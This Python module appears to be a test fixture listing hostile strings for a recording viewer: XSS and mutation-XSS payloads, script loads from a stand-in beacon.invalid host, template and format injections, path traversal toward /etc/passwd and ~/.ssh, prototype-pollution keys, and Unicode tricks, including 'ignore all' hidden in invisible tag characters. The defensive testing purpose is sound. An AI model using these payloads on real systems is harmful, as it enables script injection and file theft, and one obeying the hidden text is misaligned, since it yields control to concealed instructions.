"""Text that a recording may hold and that no view may act on: `HOSTILE`, by name.

Written for this project. What would run counts itself in ``window.hacked``; what would be fetched lies under ``.invalid``,
so that a test sees the attempt and nobody else does. Nothing here is meant to be shown escaped, shortened or mended.
"""

from __future__ import annotations

import json
from typing import Final

__all__ = ["HOSTILE", "as_shown", "utf16_units"]

_HIT: Final = "window.hacked=(window.hacked||0)+1"
_SPELT: Final = "".join(f"&#x{ord(letter):x};" for letter in _HIT)
_ROW: Final = "https://beacon.invalid"

_SCRIPTS: Final = {
    "script": f"<script>{_HIT}</script>",
    "script from afar": f'<script src="{_ROW}/s.js" type=module async></script>',
    "script in capitals, unclosed": f"<ScRiPt/x>{_HIT}//",
    "broken out of an attribute": f'" autofocus onfocus="{_HIT}" tabindex=0 x=\'',
    "broken out of a string of code": f"';{_HIT};//\";{_HIT};//`;{_HIT};//",
    "template literal": f"${{{_HIT}}}`${{(()=>{{{_HIT}}})()}}`",
    "template of a framework": f"{{{{constructor.constructor('{_HIT}')()}}}} <%= 7*7 %> #{{7*7}} {{% raw %}}",
    "format directives": "%s%n%x {0} {0.__class__.__mro__} {chunk} %(chunk)s $& $1 $` $' \\1 \\g<0>",
    "python in a link": '"); __import__("os").abort() #',
}
_MARKUP: Final = {
    "img": f"<img src=x onerror={_HIT}>",
    "img from afar": f'<img src="{_ROW}/i.png" srcset="{_ROW}/2x.png 2x" loading=eager>',
    "svg": f"<svg onload='{_HIT}'><animate onbegin='{_HIT}' attributeName=x dur=1s></svg>",
    "svg with a use": f'<svg><use href="{_ROW}/u.svg#a"/><image href="{_ROW}/v.png"/></svg>',
    "iframe": f"<iframe src='javascript:parent.{_HIT}'></iframe>",
    "iframe with a document": f'<iframe srcdoc="<script>parent.{_HIT}</script>" sandbox="allow-scripts"></iframe>',
    "object and embed": f'<object data="{_ROW}/o"></object><embed src="{_ROW}/e">',
    "body": f"</div></main><body onload={_HIT} onpageshow={_HIT}>",
    "details": f"<details open ontoggle={_HIT}><summary>a</summary></details>",
    "media": f"<video autoplay onloadstart={_HIT} poster={_ROW}/p.png><source onerror={_HIT} src={_ROW}/v.mp4></video>",
    "form": f"<form action={_ROW}/f onformdata={_HIT}><button autofocus formaction='javascript:{_HIT}'>copy</button></form>",
    "input": f"<input autofocus onfocus={_HIT} type=image src={_ROW}/in.png>",
    "base": f'<base href="{_ROW}/" target=_top>',
    "meta refresh": f'<meta http-equiv="refresh" content="0; url={_ROW}/m">',
    "links of a head": f'<link rel=stylesheet href="{_ROW}/c.css"><link rel=icon href="{_ROW}/e">',
    "dialog": "<dialog open>Kernel died. Token: <input></dialog><script>alert(1);confirm(2);prompt(3)</script>",
    "custom element": f"<x-a is=y style='animation:rx 1s' onanimationstart={_HIT}><slot name=z><template>",
    "comment": f"<!--><img src=x onerror={_HIT}>--><!-- <script> --!><![CDATA[<]]><?xml-stylesheet href='{_ROW}/x.css'?>",
    "mutating": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_HIT}&gt;">',
    "mutating, no script": f'<noscript><p title="</noscript><img src=x onerror={_HIT}>">',
    "mutating, attribute in a textarea": f'<svg><p><style><g title="</style><img src=x onerror={_HIT}>">``onerror={_HIT}',
    "closes a script": f"</script><script>{_HIT}</script>",
    "closes a text area": f"</textarea></title></xmp></noscript><img src=x onerror={_HIT}>",
    "closes a style": f"</style><svg/onload={_HIT}>",
    "closes a table": f"</td></tr></table></option></select><img src=x onerror={_HIT}>",
    "entities": f"&lt;img src=x onerror={_HIT}&gt; &amp;lt; &#0; &#x202e; &nbsp;&notit; &amp;amp;",
    "entities in an attribute": f'<a href="&#106;avascript&colon;{_SPELT}">&Tab;x</a>',
}
_ADDRESSES: Final = {
    "javascript": f"javascript:{_HIT}",
    "javascript, spelt oddly": f"\x01 jAva\tScr\nipt:{_HIT}//%0a{_ROW}",
    "data url": f"data:text/html,<script>parent.{_HIT}</script>",
    "data url in base64": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oYWNrZWQ9MSIvPg==",
    "markdown": f"[click]({_ROW}/a) ![see]({_ROW}/b.png 'c') [d]: {_ROW}/d <{_ROW}/e> [x](javascript:{_HIT})",
    "markdown that ends a fence": f"```\n</code></pre><img src=x onerror={_HIT}>\n~~~\n# h\n\n---\n| a |\n|---|\n",
    "formulas": f"$\\href{{javascript:{_HIT}}}{{x}}$ \\(\\unicode{{x}}\\) $$\\require{{html}}\\style{{{_ROW}}}{{y}}$$",
    "bare addresses": f"{_ROW}/plain //beacon.invalid/relative \\\\beacon.invalid\\share ws://beacon.invalid",
    "path": "../../../../etc/passwd/../..//~/.ssh/%2e%2e%2f?x#y",
    "style": f'<style>@import url({_ROW}/i.css);*{{background:url("{_ROW}/b.png")}}</style>',
    "style of an attribute": f"red; background-image: url({_ROW}/s.png); position: fixed; inset: 0; z-index: 99999; --x: }}",
    "class names": "rx-failed rx-tip .rx-now #here [title] a>b, :root::after{content:'x'}",
}
_NAMES: Final = {
    "proto": "__proto__",
    "constructor": "constructor",
    "prototype": "constructor.prototype.polluted",
    "own properties": "hasOwnProperty toString valueOf __defineGetter__ then length",
    "to string": "toString",
    "proto as JSON": '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}',
    "clobbered": '<form id=explorer name=modules><input name=attributes id=here><a id=open_explorer name=body href="x:y">',
    "clobbered twice": "<a id=window><a id=window name=explorer><img name=querySelector><input name=parentNode>",
    "words of the explorer": "not named",
    "missing": "null",
    "numbers": "NaN Infinity -0 1e999 0x10 ١٢ \N{ROMAN NUMERAL FIVE}",
    "query": 'model:"x -y" OR n:>1 has:tools -"z (?i)[a-z]*+{2}\\ %_ * ?',
    "JSON in JSON": json.dumps(json.dumps({"a": json.dumps({"b": f"</script>{_HIT}"}), "c": ["{", "}", "]"]})),
    "half of a JSON": '{"a": [1, {"b": "\\ud83d\\',
    "lines of JSON": '{\n  "a": [\n    1,\n  }\n]\n"b": {',
    "events": f"data: [DONE]\n\nevent: x\nid: \x00\ndata: {{}}\n\n: {_ROW}\r\n\r\n",
}
_CONFUSING: Final = {
    "right to left": "abc \u202egnp.exe\u202c def",
    "right to left, never ended": "\u202e(error) 5 dekcehc",
    "embeddings and isolates": "a\u202ab\u202bc\u2066d\u2067e\u2068f\u2069g\u200eh\u200fi\u061cj",
    "letters that run the other way": "שלום (1) العربية [2]",
    "of no width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh\u3164i",
    "tags that are not seen": "safe" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all") + "\U000e007f",
    "selectors of a variant": "a\ufe0f\ufe0e\U000e0100b\ufe0f",
    "zero": "before\x00after\x00",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f",
    "more controls": "".join(map(chr, range(128, 160))),
    "a terminal's": "\x1b[2J\x1b[31mred\x1b]8;;https://beacon.invalid\x07link\x1b]8;;\x07\x1b]0;title\x07\b\b\b",
    "separators of lines": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "ends of lines": "\r\na\rb\nc\r\r\nd\n\re\r",
    "space": " \t  a\u00a0\u2003\u3000\u1680 b\t\n \n",
    "a mark of order first": "\ufeffbegins\ufeff\ufffe",
    "no characters": "a\uffff\ufffe\ufdd0\U0001ffff\U0010ffffb\ufffd",
    "private": "\ue000\U000f0000\U0010fffd",
    "a high half": "a\ud83d",
    "a low half": "\ude00b",
    "halves the wrong way": "\udc00\ud800 \udfff\udbff",
    "halves in a row": "\ud83d\ud83d\N{GRINNING FACE}\ude00\udcff",
    "beyond the first plane": "\N{GRINNING FACE}\U0001f469\u200d\U0001f469\u200d\U0001f467\U00020000\U0001f1f3\U0001f1f4"
    * 6,
    "combining": "Z" + "\u0300\u0353\u0489\u20dd" * 120 + "\u0301 \u0301",
    "a combining mark first": "\u0338> \u20e0<",
    "letters that look alike": "pаypаl ɡoogle \U0001d41a \uff1cscript\uff1e \u2039\u203a\uff02\uff07",
    "letters that change with case": "İıſKÅßẞǅﬁΣς",
    "a very long word": "W" * 6_000,
    "very long without a letter": "\u200b" * 500 + "﷽" * 80 + "_" * 900,
    "many lines": "\n" * 150 + "end",
    "deep": "[" * 1_200 + "{" * 50,
}

HOSTILE: Final[dict[str, str]] = {**_SCRIPTS, **_MARKUP, **_ADDRESSES, **_NAMES, **_CONFUSING}


def as_shown(text: str) -> str:
    """The text as every column and every message has it: U+FFFD for halves of characters, the one thing that changes."""
    return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")


def utf16_units(text: str) -> list[str]:
    """The text as JavaScript takes it apart: characters beyond the first plane are two halves."""
    data = text.encode("utf-16-le", "surrogatepass")
    return [chr(int.from_bytes(data[at : at + 2], "little")) for at in range(0, len(data), 2)]
